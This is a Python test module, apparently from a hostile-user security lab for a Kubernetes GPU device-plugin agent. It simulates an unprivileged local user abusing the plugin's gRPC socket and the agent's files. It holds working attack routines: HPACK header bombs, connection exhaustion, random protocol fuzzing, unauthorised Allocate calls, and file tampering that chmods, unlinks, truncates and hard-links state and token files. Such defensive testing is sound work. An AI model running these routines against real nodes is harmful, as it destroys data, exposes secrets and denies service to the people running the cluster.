"""`python -m tests.hostile.lab.stranger UID ATTACK MOST SECONDS RATE PATH...`: a user of the node.

It comes to the agent's files and to the plugin's socket. As uid 0 it is a caller whom the socket
lets in. Each attack is a generator: a step, and how many tries it was.
"""

import contextlib
import fcntl
import itertools
import os
import random
import select
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

from h2.config import H2Configuration
from h2.connection import H2Connection
from hpack import Encoder

from tests.hostile.lab.working import attack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
ALLOCATE = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/v1beta1.DevicePlugin/Allocate"),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
PATHS = [Path(one) for one in sys.argv[6:]]
FACTS: dict[str, int] = {"got": 0, "hung_up": 0}
"""`got`: what a stranger was given or could change; `hung_up`: connections that were ended."""
IDLE = 800
"""Connections that are held at once."""


def knocks() -> Iterator[int]:
    """Allocate is called by somebody who is not root."""
    while True:
        with _connected() as caller:
            with contextlib.suppress(ConnectionError, TimeoutError):
                caller.sendall(PREFACE + _call(_message(["GPU-0-0"])))
                FACTS["got"] += bool(caller.recv(4096))
            FACTS["hung_up"] += 1
        yield 1


def trespasses() -> Iterator[int]:
    """Everything of the agent's is opened, renamed, removed, linked to, and given other modes."""
    (root, *_) = PATHS
    for number in itertools.count():
        for above, folders, files in os.walk(root):
            if above.endswith("/containers"):
                folders.clear()  # who comes there may write in the leaves: HAMi-core needs it
            for name in (*folders, *files):
                path = Path(above, name)
                yield from _at(path, number)


def _at(path: Path, number: int) -> Iterator[int]:
    tries = (
        lambda: path.chmod(0o777),
        lambda: os.chown(path, os.getuid(), os.getgid()),
        lambda: path.rename(path.with_name(f"mine{number}")),
        path.unlink,
        lambda: os.link(path, f"/var/tmp/hami-stolen-{os.getpid()}"),
        lambda: os.symlink("/", path.with_name(f"way{number}")),
        lambda: path.with_name(f"new{number}").mkdir(),
        lambda: os.truncate(path, 0),
    )
    for one in tries:
        with contextlib.suppress(OSError):
            one()
            FACTS["got"] += 1
        yield 1


def reads() -> Iterator[int]:
    """What is secret is opened: state, token, lock, sockets; who may read a lock could hold it."""
    for path in itertools.cycle(PATHS):
        for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR | os.O_CREAT):
            with contextlib.suppress(OSError):
                handle = os.open(path, flags | os.O_NONBLOCK)
                fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
                FACTS["got"] += 1
            yield 1


def noise() -> Iterator[int]:
    """Bytes of chance, behind HTTP/2's first ones or without them, and HTTP/1."""
    chance = random.Random(1)
    for number in itertools.count():
        body = chance.randbytes(chance.randrange(1, 20_000))
        _send((PREFACE, b"", b"POST / HTTP/1.1\r\n\r\n", _first())[number % 4] + body)
        yield 1


def bombs() -> Iterator[int]:
    """Headers that are small on the wire and large when they are unpacked, and ones without end."""
    encoder = Encoder()
    first = encoder.encode([*ALLOCATE, ("x", "y" * 3_900)])
    again = b"\xbe" * 16_000  # the newest entry of the table, so many times
    for number in itertools.count(1):
        if number % 2:
            sent = _frame(1, 0x4, 1, first) + _frame(1, 0x4, 3, again)
        else:
            sent = _frame(1, 0, 1, first) + _frame(9, 0, 1, again) * 60
        _send(_first() + sent)
        yield 1


def idles() -> Iterator[int]:
    """Connections that say nothing, or half a word, and stay."""
    kept: list[socket.socket] = []
    while True:
        caller = _connected()
        caller.sendall((b"", PREFACE[:9], PREFACE)[len(kept) % 3])
        kept.append(caller)
        if len(kept) > IDLE:
            kept.pop(0).close()
        yield 1


def _connected() -> socket.socket:
    """Where too many wait to be taken, it tries again, as a program that means harm does."""
    while True:
        caller = socket.socket(socket.AF_UNIX)
        caller.settimeout(5)
        try:
            caller.connect(str(PATHS[0]))
        except BlockingIOError:
            caller.close()
            select.select((), (), (), 0.01)
        else:
            return caller


def _send(data: bytes) -> None:
    """Say it, and take what comes until the agent hangs up or is silent for a moment."""
    with _connected() as caller:
        try:
            caller.sendall(data)
            caller.settimeout(0.05)
            while caller.recv(65_536):
                pass
            FACTS["hung_up"] += 1
        except TimeoutError:
            pass
        except ConnectionError:
            FACTS["hung_up"] += 1


def _first() -> bytes:
    connection = H2Connection(H2Configuration())
    connection.initiate_connection()
    return connection.data_to_send()


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """One frame of HTTP/2, whatever its rules say."""
    return len(body).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + body


def _call(message: bytes) -> bytes:
    """Allocate with this message, in frames that no window bounds."""
    block = Encoder().encode(ALLOCATE)
    prefixed = b"\x00" + len(message).to_bytes(4) + message
    parts = [prefixed[at : at + 16_384] for at in range(0, len(prefixed), 16_384)]
    frames = [_frame(0, part is parts[-1], 1, part) for part in parts]
    return _frame(1, 0x4, 1, block) + b"".join(frames)


def _message(found: list[str]) -> bytes:
    """AllocateRequest with one container of these ids."""
    return _field(b"".join(_field(one.encode()) for one in found))


def _field(content: bytes) -> bytes:
    size, length = b"", len(content)
    while length > 0x7F:
        size, length = size + bytes((length & 0x7F | 0x80,)), length >> 7
    return b"\x0a" + size + bytes((length,)) + content


if __name__ == "__main__":
    attack(globals(), FACTS, sys.argv[1:])
